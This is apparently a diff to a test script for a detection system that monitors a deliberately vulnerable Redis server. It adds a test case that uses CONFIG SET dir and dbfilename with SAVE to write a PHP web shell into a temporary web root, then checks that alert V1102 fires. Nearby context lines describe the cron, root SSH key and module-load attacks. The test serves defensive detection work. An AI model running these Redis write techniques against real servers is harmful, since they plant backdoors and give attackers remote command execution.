@@ -7,8 +7,10 @@
 #   cron      CONFIG SET dir /var/spool/cron/crontabs + dbfilename root + SAVE (a root cron job)
 #   sshkey    CONFIG SET dir /root/.ssh + dbfilename authorized_keys + SAVE (root's SSH login)
 #   module    MODULE LOAD of a module that runs a command (system(): a shell from the server)
+#   webshell  CONFIG SET dir to a web root + dbfilename shell.php + SAVE (a PHP web shell)
 # Each compromise: its strongest alert is high (>= 8, the rule named) and all of its alerts
-# are one incident.
+# are one incident. The web shell is a file written where Redis never writes (V1102, 5): not
+# yet code execution, so not high.
 #
 # The server runs as root, as Redis ran in containers for years; the config turns on what
 # Redis 7 guards by default (enable-protected-configs, enable-module-command), as a vulnerable
@@ -142,6 +144,22 @@ cli set k $'\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker attacker@evil\n\n'
 cli save >/dev/null || true
 compromise sshkey V1101
 [ -s /root/.ssh/authorized_keys ] || fail "sshkey: the attack did not write its file"
+
+serve webshell
+WWW=$TEST_TMP/www
+mkdir -p "$WWW"
+assert_eq OK "$(cli config set dir "$WWW")" "CONFIG SET dir"
+assert_eq OK "$(cli config set dbfilename shell.php)" "CONFIG SET dbfilename"
+cli set w $'\n\n<?php system($_GET["c"]); ?>\n\n' >/dev/null
+cli save >/dev/null || true
+finish
+[ -s "$WWW/shell.php" ] || fail "webshell: the attack did not write its file"
+wait_until 10 json_count_ge 1 "$ALERTS" rule_id=V1102 "key=$WWW" "event.path~$WWW/" ||
+	fail "webshell: no V1102 for $WWW: $(json_get "$ALERTS" message | head -c 2000)"
+assert_eq 5 "$(json_get "$ALERTS" severity rule_id=V1102 | head -1)" "webshell: V1102's severity"
+assert_eq 1 "$(json_count "$ALERTS" rule_id=V1102)" "webshell: one V1102 for one directory"
+assert_eq 1 "$(json_get "$ALERTS" incident_id | sort -u | wc -l)" "webshell: incidents"
+log "webshell: $(json_count "$ALERTS") alerts, one incident: $(json_get "$ALERTS" message rule_id=V1102)"
 
 serve module
 cli module load "$TEST_TMP/evil.so" >/dev/null 2>&1 || true
